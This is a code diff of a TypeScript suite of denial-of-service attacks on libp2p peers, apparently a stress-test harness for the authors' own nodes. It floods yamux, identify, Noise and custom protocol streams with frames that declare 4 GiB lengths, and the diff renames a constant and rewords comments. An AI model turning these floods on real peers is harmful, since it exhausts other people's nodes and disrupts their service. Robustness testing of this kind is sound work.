@@ -5,10 +5,10 @@ import type { Attack, Target } from '../attack.ts'
 import { again, MEBIBYTE, open, pour } from './network.ts'
 
 const PIECE = new Uint8Array(65_536)
-/** The varint of 4 GiB - 1: what is said to follow. */
+/** The varint of 4 GiB - 1: the length of what follows. */
 const HUGE = Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0x0f)
 /** Bytes of one connection. */
-const MOST = 256 * MEBIBYTE
+const MAX_SENT = 256 * MEBIBYTE
 
 /** Heads of yamux frames: version, type, flags, stream, length (the yamux specification of hashicorp). */
 const HEADS = [
@@ -26,13 +26,13 @@ export const yamuxLength: Attack = {
     let turn = 0
     const connections = await again(target, signal, async ({ below }) => {
       below.send(HEADS[turn++ % HEADS.length] ?? PIECE)
-      sent += await pour(below, { piece: PIECE, bytes: MOST, signal })
+      sent += await pour(below, { piece: PIECE, bytes: MAX_SENT, signal })
     })
     return `${connections} connections, ${mega(sent)} MB`
   }
 }
 
-/** Many small frames that each want an answer. */
+/** Pings of yamux, each of which must be answered. */
 export const yamuxPing: Attack = {
   name: 'yamux-ping',
   async run(target, signal) {
@@ -41,7 +41,7 @@ export const yamuxPing: Attack = {
     )
     let sent = 0
     const connections = await again(target, signal, async ({ below }) => {
-      sent += await pour(below, { piece, bytes: MOST, signal })
+      sent += await pour(below, { piece, bytes: MAX_SENT, signal })
     })
     return `${connections} connections, ${sent / 12} pings`
   }
@@ -59,13 +59,13 @@ export const multistreamLength: Attack = {
     await again(target, signal, async (hostile) => {
       const stream = await open(hostile, '/ipfs/ping/1.0.0')
       sent += await pour(stream, { piece: HUGE, bytes: 1, signal })
-      sent += await pour(stream, { piece: PIECE, bytes: MOST, signal })
+      sent += await pour(stream, { piece: PIECE, bytes: MAX_SENT, signal })
     })
     return `${await raw} sockets, ${mega(sent)} MB`
   }
 }
 
-/** Handshakes of Noise of the greatest length, with nothing that is one. */
+/** Noise messages of the maximum length that are no handshake. */
 export const noiseLength: Attack = {
   name: 'noise-length',
   async run(target, signal) {
@@ -80,7 +80,7 @@ export const noiseLength: Attack = {
   }
 }
 
-/** Connections on which nothing is ever said. */
+/** Connections on which nothing is sent. */
 export const silentSockets: Attack = {
   name: 'silent-sockets',
   async run(target, signal) {
@@ -89,7 +89,7 @@ export const silentSockets: Attack = {
   }
 }
 
-/** identify and its push with more than any peer has to say. */
+/** identify and identify push with a message of 4 GiB. */
 export const identifySize: Attack = {
   name: 'identify-size',
   async run(target, signal) {
@@ -102,14 +102,14 @@ export const identifySize: Attack = {
       async (hostile) => {
         const stream = await open(hostile, '/ipfs/id/push/1.0.0')
         stream.send(HUGE)
-        sent += await pour(stream, { piece: field, bytes: MOST, signal })
+        sent += await pour(stream, { piece: field, bytes: MAX_SENT, signal })
       },
       {
         async prepare(libp2p) {
           await libp2p.unhandle('/ipfs/id/1.0.0')
           await libp2p.handle('/ipfs/id/1.0.0', async (stream) => {
             stream.send(HUGE)
-            sent += await pour(stream, { piece: field, bytes: MOST, signal })
+            sent += await pour(stream, { piece: field, bytes: MAX_SENT, signal })
           })
         }
       }
@@ -118,7 +118,7 @@ export const identifySize: Attack = {
   }
 }
 
-/** The frames of queries and of the datagrams' control stream, at lengths that they do not have. */
+/** The frames of queries and of the datagrams' control stream, with lengths over their limits. */
 export const frameLength: Attack = {
   name: 'frame-length',
   async run(target, signal) {
@@ -127,7 +127,7 @@ export const frameLength: Attack = {
       for (const protocol of ['/sensor/temp/v1', '/kith/dgram/v1', '/meshsub/1.1.0']) {
         const stream = await open(hostile, protocol)
         stream.send(HUGE)
-        sent += await pour(stream, { piece: PIECE, bytes: MOST / 8, signal })
+        sent += await pour(stream, { piece: PIECE, bytes: MAX_SENT / 8, signal })
       }
     })
     return `${connections} connections, ${mega(sent)} MB`
@@ -159,7 +159,7 @@ async function sockets(
 
 async function pourSocket(socket: Socket, signal: AbortSignal): Promise<number> {
   let sent = 0
-  while (sent < MOST && !signal.aborted && !socket.destroyed) {
+  while (sent < MAX_SENT && !signal.aborted && !socket.destroyed) {
     const isFree = socket.write(PIECE)
     sent += PIECE.length
     if (!isFree)
